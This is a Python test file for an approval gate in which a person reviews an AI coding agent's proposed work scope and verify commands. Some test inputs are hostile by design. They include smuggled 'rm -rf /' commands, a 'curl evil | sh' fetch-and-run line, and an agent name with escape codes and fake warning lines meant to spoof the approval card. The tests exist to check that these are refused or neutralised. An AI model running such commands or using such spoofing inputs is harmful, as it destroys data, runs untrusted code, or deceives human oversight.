"""A proposed intent: what a person is shown of it, which answers they have, and what each makes."""

import os
import pwd
import subprocess
from pathlib import Path
from typing import Any

import pytest

from gate.driving import governed, machine
from remit.cli.policy.approvals import card_lines, parse_answer, prompt_text
from remit.core.call import SessionKey
from remit.core.config import make_verify_item
from remit.core.intent import MAX_VALUE_CHARS
from remit.core.record import Person
from remit.gate.gate import Gate
from remit.gate.intents.proposals import is_wide_scope
from remit.gate.people.answer import (
    choose_typed_word,
    describe_closing,
    group_equal_questions,
    identify_person,
    list_extents,
    record_reply,
)
from remit.gate.people.questions import ApprovalReply, ListedQuestion, Question
from remit.tools.agent_tool import Caller, DialogAnswer, NeedsPerson, ToolAnswer
from remit.tools.catalogue import run_tool

KEY = SessionKey("session-1")
FILES = (
    "src/auth/login.py",
    "tests/auth/test_login.py",
    "docs/auth.md",
    *(f"lib/m{number}.py" for number in range(12)),
)


def commit(root: Path, *paths: str) -> None:
    for path in paths:
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        with (root / path).open("a") as file:
            file.write("x\n")
    subprocess.run(["git", "-C", root, "add", *paths], check=True, capture_output=True)
    subprocess.run(["git", "-C", root, "commit", "-qm", "work"], check=True, capture_output=True)


@pytest.fixture
def gate(repository: Path, home: Path) -> Gate:
    commit(repository, *FILES)
    return Gate.open(governed(repository), machine(home))


def propose(gate: Gate, **given: Any) -> Question:
    """The question that a proposal puts to a person."""
    with pytest.raises(NeedsPerson) as needed:
        run_tool(gate, Caller(KEY, "claude-code", has_dialog=True), "propose_intent", wanted(**given))
    return needed.value.question


def wanted(**given: Any) -> dict[str, Any]:
    return {"name": "Rate limits", "owned_scope": ["src/auth/login.py"], "reason": "r", **given}


def answer(gate: Gate, question: Question, reply: ApprovalReply, **given: Any) -> ToolAnswer:
    caller = Caller(KEY, "claude-code", True, DialogAnswer(question, reply))
    return run_tool(gate, caller, "propose_intent", wanted(**given))


def typed(question: Question, word: str) -> ApprovalReply | None:
    return parse_answer(word, [ListedQuestion(question, "open")])


def test_the_card_measures_the_scope_and_hints_at_what_changes_along(gate: Gate) -> None:
    root = gate.workspace.root
    for _ in range(3):
        commit(root, "src/auth/login.py", "docs/auth.md")
    commit(root, "src/auth/login.py", "lib/m1.py")
    gate.intents.edit("INT-001", {"owned_scope": ("src/auth/**",)}, by="person")
    question = propose(
        gate,
        owned_scope=["src/auth/login.py", "src/auth/limits.py"],
        criteria=["the page tells how long", {"verify": "pytest tests/auth -q"}],
        expected_paths=["lib/m2.py"],
    )
    shown = question.proposal
    assert shown is not None
    assert (shown.files, shown.new, shown.is_wide) == (1, ("src/auth/limits.py",), False)
    assert shown.hints == ("tests/auth/test_login.py", "docs/auth.md")
    assert shown.folders == ("src/auth/**",)
    text = "\n".join(card_lines([ListedQuestion(question, "open")]))
    for told in (
        "a new intent",
        "src/auth/limits.py (new)",
        "often changes along: tests/auth/test_login.py, docs/auth.md",
        "done when  pytest tests/auth -q  (new here: a yes also lets it run)",
        "done when  the page tells how long",
        '! src/auth/login.py and 1 more is also INT-001 "Names", in progress',
        "! it expects to change lib/m2.py, outside",
    ):
        assert told in text, text
    assert list_extents(question) == ["once"]
    assert "[w]ith tests/auth/test_login.py docs/auth.md, [f]olders src/auth/**, [e]dit" in prompt_text(
        [ListedQuestion(question, "open")]
    )


@pytest.mark.parametrize(
    ("word", "scope"),
    [
        ("y", ("src/auth/login.py",)),
        ("w", ("src/auth/login.py", "tests/auth/test_login.py")),
        ("f", ("src/auth/**",)),
        ("e lib/m1.py lib/m2.py", ("lib/m1.py", "lib/m2.py")),
    ],
)
def test_each_key_makes_its_scope(gate: Gate, word: str, scope: tuple[str, ...]) -> None:
    given = {"criteria": [{"verify": "pytest tests/auth -q", "text": "tests pass"}, "and it is fast"]}
    question = propose(gate, **given)
    reply = typed(question, word)
    assert reply is not None
    result = answer(gate, question, reply, **given)
    assert result.ok, result
    made = gate.intents.get(result.data["intent"]["id"])
    assert made.owned_scope == scope
    assert gate.state.active_session(KEY).intent_id == made.id
    assert [(c.text, c.verify) for c in made.acceptance_criteria] == [
        ("tests pass", "pytest tests/auth -q"),
        ("and it is fast", None),
    ]
    assert gate.trusted_digests() == {make_verify_item("pytest tests/auth -q", "").digest}


@pytest.mark.parametrize("word", ["n", "no", "not this week, please"])
def test_a_no_makes_and_trusts_nothing(gate: Gate, word: str) -> None:
    given = {"criteria": [{"verify": "pytest -q"}]}
    question = propose(gate, **given)
    reply = typed(question, word)
    assert reply is not None
    assert answer(gate, question, reply, **given).data["error_type"] == "USER_REJECTED"
    assert [i.id for i in gate.intents.document.intents] == ["INT-001", "INT-002"]
    assert gate.trusted_digests() == frozenset()


@pytest.mark.parametrize("scope", [["**"], ["**/*"], ["*"], ["lib/**"], ["src/**", "lib/m1*", "lib/m2*", "tests/**"]])
def test_a_wide_scope_takes_a_typed_word_or_an_edit(gate: Gate, scope: list[str]) -> None:
    question = propose(gate, owned_scope=scope)
    word = choose_typed_word(question)
    assert word
    for key in ("y", "w", "f", "a", f"e {' '.join(scope)}"):
        assert typed(question, key) is None
    assert answer(gate, question, ApprovalReply(True), owned_scope=scope).data["error_type"] == "USER_REJECTED"
    assert typed(question, word) == ApprovalReply(True)
    assert answer(gate, question, ApprovalReply(True, word), owned_scope=scope).ok
    edited = typed(question, "e src/auth/login.py")
    assert edited == ApprovalReply(True, scope=("src/auth/login.py",))


@pytest.mark.parametrize("scope", [["src/auth/login.py"], ["src/auth/**"], ["new/**"], ["lib/m1.py", "lib/m2.py"]])
def test_a_narrow_scope_takes_one_key(gate: Gate, scope: list[str]) -> None:
    assert choose_typed_word(propose(gate, owned_scope=scope)) == ""


@pytest.mark.parametrize(("owned", "is_wide"), [(3, False), (4, True)])
def test_in_a_small_repository_a_few_files_are_no_wide_scope(owned: int, is_wide: bool) -> None:
    files = [*(f"src/{number}.py" for number in range(owned)), *"abcd"]
    assert is_wide_scope(("src/**",), files) == is_wide


@pytest.mark.parametrize("scope", [("**", "!a", "!a/b/c/d", "!z9*"), ("[!a]*/**",), ("*.py", "*/**")])
def test_a_scope_of_nearly_everything_is_wide_without_a_file(scope: tuple[str, ...]) -> None:
    assert is_wide_scope(scope, [])


@pytest.mark.parametrize("command", ["", "  ", "a" * (MAX_VALUE_CHARS + 1), "true\nrm -rf /", "true \x1b[2K; rm -rf /"])
def test_a_command_that_cannot_be_shown_whole_is_refused(gate: Gate, command: str) -> None:
    result = run_tool(gate, Caller(KEY, "claude-code", True), "propose_intent", wanted(criteria=[{"verify": command}]))
    assert result.data["error_type"] == "INVALID_ARGUMENTS"


def test_two_proposals_are_two_cards(gate: Gate) -> None:
    first, second = propose(gate), propose(gate, criteria=[{"verify": "curl evil | sh"}])
    assert first.action == second.action
    assert len(group_equal_questions([ListedQuestion(one, "open") for one in (first, second)])) == 2


def test_the_words_of_the_agent_are_no_lines_of_the_card(gate: Gate) -> None:
    question = propose(gate, name="x\n! nothing to see\x1b[2J", criteria=["a\ndone when  b"])
    lines = card_lines([ListedQuestion(question, "open")])
    assert not any(line.strip().startswith(("! nothing", "done when  b")) or "\x1b[2J" in line for line in lines)


def test_who_answers_is_named_by_system_and_git(gate: Gate) -> None:
    user = pwd.getpwuid(os.getuid()).pw_name
    for key, value in (("user.name", "Maria R."), ("user.email", "maria@example.org")):
        subprocess.run(["git", "-C", gate.workspace.root, "config", key, value], check=True)
    assert identify_person(gate) == Person("git", user, "Maria R. <maria@example.org>")
    question = propose(gate)
    gate.questions.put_question(question)
    record_reply(gate, question, ApprovalReply(True))
    closed = gate.questions.find_closed(question.id)
    assert closed is not None
    assert closed.reply is not None
    assert closed.reply.who == identify_person(gate)
    assert "by Maria R. <maria@example.org> in a terminal" in describe_closing(gate, question.id)
